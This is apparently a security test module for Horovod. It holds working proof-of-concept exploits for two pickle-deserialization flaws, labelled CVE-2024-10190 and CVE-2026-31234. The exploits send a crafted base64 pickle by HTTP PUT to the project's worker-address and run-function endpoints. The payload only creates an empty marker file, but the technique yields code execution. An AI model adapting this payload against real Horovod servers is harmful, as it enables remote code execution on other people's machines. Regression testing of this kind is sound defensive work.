"""What an intruder sends who can reach a port and knows no secret: both exploits, as a program.

    python -m tests.security.attacks elastic PORT MARKER      # CVE-2024-10190: runs code in horovodrun itself
    python -m tests.security.attacks function PORT MARKER     # CVE-2026-31234: runs code in a rank of `run(f)`

The code does no harm: it makes the empty file MARKER. The program prints the status of the server's answer, or 0 where
there was none.
"""

from __future__ import annotations

import base64
import http.client
import os
import pickle
import sys
from pathlib import Path
from typing import Any

PATHS = {"elastic": "/worker_addresses/localhost:0", "function": "/runfunc/func"}


class Payload:
    """Makes a file where it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self._marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.open, (str(self._marker), os.O_CREAT | os.O_WRONLY)


def payload(marker: Path) -> bytes:
    """A request's body that makes the file when Horovod unpickles it."""
    return base64.b64encode(pickle.dumps(Payload(marker)))


def put(port: int, path: str, body: bytes) -> int:
    """Send a request as an intruder on this machine would.

    Returns:
        The status of the answer; 0 where the connection ended without one.
    """
    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=5)
    try:
        connection.request("PUT", path, body)
        return connection.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        connection.close()


def attack(name: str, port: int, marker: Path) -> int:
    """Try one of the exploits once; return the status of the answer."""
    return put(port, PATHS[name], payload(marker))


if __name__ == "__main__":
    print(attack(sys.argv[1], int(sys.argv[2]), Path(sys.argv[3])))
